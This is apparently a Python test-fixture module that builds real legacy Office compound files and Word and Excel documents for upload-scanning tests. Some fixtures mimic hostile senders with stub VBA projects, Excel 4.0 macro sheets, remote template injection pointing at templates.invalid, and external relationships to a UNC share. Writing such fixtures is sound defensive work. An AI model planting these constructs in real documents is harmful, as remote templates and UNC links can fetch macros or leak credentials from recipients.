"""Real files for the upload tests, built here: OLE compound files (legacy Office) with or without a VBA project,
and Word and Excel documents from python-docx and openpyxl, changed the way a hostile sender changes them."""

import io
import math
import struct
import zipfile

import docx
import openpyxl
from docx.opc.constants import RELATIONSHIP_TYPE as RT

OLE_SIGNATURE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
SECTOR = 512
# Streams at least this long live in ordinary sectors (the mini stream is not needed).
MINI_STREAM_CUTOFF = 4096
FREESECT, ENDOFCHAIN, FATSECT, NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def cfb(tree):
    """A compound file (version 3) holding ``tree``: {name: bytes (a stream) or dict (a storage)}.

    Every stream is padded to MINI_STREAM_CUTOFF so that it is stored in ordinary sectors."""
    entries = [{"name": "Root Entry", "type": 5, "data": None, "children": []}]

    def add(children, parent):
        for name, value in children.items():
            index = len(entries)
            entry = {"name": name, "type": 1 if isinstance(value, dict) else 2, "children": [],
                     "data": None if isinstance(value, dict) else value.ljust(MINI_STREAM_CUTOFF, b"\x00")}
            entries.append(entry)
            parent["children"].append(index)
            if isinstance(value, dict):
                add(value, entry)

    add(tree, entries[0])
    directory_sectors = math.ceil(len(entries) / 4)
    stream_sectors = [math.ceil(len(e["data"]) / SECTOR) if e["data"] is not None else 0 for e in entries]
    used = directory_sectors + sum(stream_sectors)
    fat_sectors = 1
    while fat_sectors * (SECTOR // 4) < used + fat_sectors:
        fat_sectors += 1
    fat = [FATSECT] * fat_sectors
    first_directory = len(fat)
    fat += [*range(first_directory + 1, first_directory + directory_sectors), ENDOFCHAIN]
    starts = []
    for count in stream_sectors:
        if not count:
            starts.append(ENDOFCHAIN)
            continue
        start = len(fat)
        starts.append(start)
        fat += [*range(start + 1, start + count), ENDOFCHAIN]
    fat += [FREESECT] * (fat_sectors * (SECTOR // 4) - len(fat))

    def directory_entry(index):
        entry = entries[index]
        encoded = entry["name"].encode("utf-16-le") + b"\x00\x00"
        children = entry["children"]
        # Siblings as a chain of right siblings, all black: a valid (if unbalanced) tree.
        right = NOSTREAM
        for parent in entries:
            siblings = parent["children"]
            if index in siblings and siblings.index(index) + 1 < len(siblings):
                right = siblings[siblings.index(index) + 1]
        size = len(entry["data"]) if entry["data"] is not None else 0
        return (encoded.ljust(64, b"\x00") + struct.pack("<HBBIII", len(encoded), entry["type"], 1, NOSTREAM, right,
                                                          children[0] if children else NOSTREAM)
                + bytes(16) + bytes(4) + bytes(16) + struct.pack("<IQ", starts[index], size))

    directory = b"".join(directory_entry(i) for i in range(len(entries)))
    unused = struct.pack("<64sHBBIII", b"", 0, 0, 0, NOSTREAM, NOSTREAM, NOSTREAM).ljust(128, b"\x00")
    directory += unused * (directory_sectors * 4 - len(entries))
    difat = list(range(fat_sectors)) + [FREESECT] * (109 - fat_sectors)
    header = (OLE_SIGNATURE + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
              + struct.pack("<IIIIIIIII", 0, fat_sectors, first_directory, 0, MINI_STREAM_CUTOFF, ENDOFCHAIN, 0,
                            ENDOFCHAIN, 0)
              + struct.pack("<109I", *difat))
    body = struct.pack(f"<{len(fat)}I", *fat) + directory
    body += b"".join(e["data"].ljust(n * SECTOR, b"\x00") for e, n in zip(entries, stream_sectors, strict=True)
                     if e["data"] is not None)
    return header + body


VBA_PROJECT = {"VBA": {"_VBA_PROJECT": b"\xcc\x61\xff\xff\x00", "dir": b"\x01\x00", "ThisDocument": b"Attribute"},
               "PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisDocument/&H00000000\r\n'}


def legacy_doc(macros=False):
    tree = {"WordDocument": b"\xec\xa5\xc1\x00 Word 97 main stream", "1Table": b"\x00"}
    if macros:
        tree["Macros"] = VBA_PROJECT
    return cfb(tree)


def biff_record(record, data=b""):
    return struct.pack("<HH", record, len(data)) + data


def legacy_xls(sheet_type=0x00, vba=False):
    """A BIFF8 workbook whose one sheet is a worksheet (0x00), an Excel 4.0 macro sheet (0x01) or a VBA module."""
    name = b"Sheet1"
    boundsheet = struct.pack("<IBBB", 0, 0, sheet_type, len(name)) + b"\x00" + name
    workbook = (biff_record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0, 0, 0, 0))
                + biff_record(0x0085, boundsheet) + biff_record(0x000A))
    tree = {"Workbook": workbook}
    if vba:
        tree["_VBA_PROJECT_CUR"] = VBA_PROJECT
    return cfb(tree)


PPT_VBA_INFO = bytes.fromhex("0f00ff0314000000020000040c000000") + struct.pack("<III", 1, 1, 2)


def legacy_ppt(macros=False):
    document = b"\x0f\x00\xe8\x03" + bytes(4) + (PPT_VBA_INFO if macros else b"")
    return cfb({"PowerPoint Document": document, "Current User": b"\x00"})


# OOXML --------------------------------------------------------------------------------------------------------------

def _bytes_of(document):
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def word_document(text="Significant event analysis", hyperlink=None):
    """A real .docx from python-docx; ``hyperlink``: a URL the document links to (an external relationship)."""
    document = docx.Document()
    document.add_paragraph(text)
    if hyperlink:
        document.part.relate_to(hyperlink, RT.HYPERLINK, is_external=True)
    return _bytes_of(document)


def excel_workbook():
    workbook = openpyxl.Workbook()
    workbook.active["A1"] = "Recall log"
    return _bytes_of(workbook)


def rewrite(package, add=None, replace=None):
    """The zip package with members added, or replaced through a function of their text."""
    source = zipfile.ZipFile(io.BytesIO(package))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info)
            if replace and info.filename in replace:
                data = replace[info.filename](data.decode()).encode()
            target.writestr(info.filename, data)
        for name, data in (add or {}).items():
            target.writestr(name, data)
    return buffer.getvalue()


def with_vba(package, folder="word"):
    """What Word or Excel save as macro-enabled: a VBA project and the macro-enabled main content type."""
    main = {"word": "application/vnd.ms-word.document.macroEnabled.main+xml",
            "xl": "application/vnd.ms-excel.sheet.macroEnabled.main+xml"}[folder]
    plain = {"word": "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
             "xl": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"}[folder]
    return rewrite(package, add={f"{folder}/vbaProject.bin": legacy_doc(macros=True)},
                   replace={"[Content_Types].xml": lambda text: text.replace(plain, main)})


def with_vba_project_only(package, folder="word"):
    """Only the VBA project, the content types left as a plain document's."""
    return rewrite(package, add={f"{folder}/vbaProject.bin": legacy_doc(macros=True)})


REMOTE_TEMPLATE_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'attachedTemplate" Target="https://templates.invalid/normal.dotm" TargetMode="External"/></Relationships>'
)


def with_remote_template(package):
    """Template injection: word/settings.xml points at a template fetched from elsewhere when Word opens it."""
    return rewrite(package, add={"word/_rels/settings.xml.rels": REMOTE_TEMPLATE_RELS},
                   replace={"word/settings.xml": lambda text: text.replace(
                       "<w:defaultTabStop", '<w:attachedTemplate r:id="rId1"/><w:defaultTabStop', 1)})


def with_external_relationship(package, rel_type, target="\\\\fileserver.invalid\\share\\x", mode="External"):
    """An external relationship of another kind (a frame, an OLE object, an image) in the main document's rels."""
    relationship = (f'<Relationship Id="rId900" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                    f'relationships/{rel_type}" Target="{target}"' + (f' TargetMode="{mode}"' if mode else "") + "/>")
    return rewrite(package, replace={"word/_rels/document.xml.rels": lambda text: text.replace(
        "</Relationships>", relationship + "</Relationships>")})
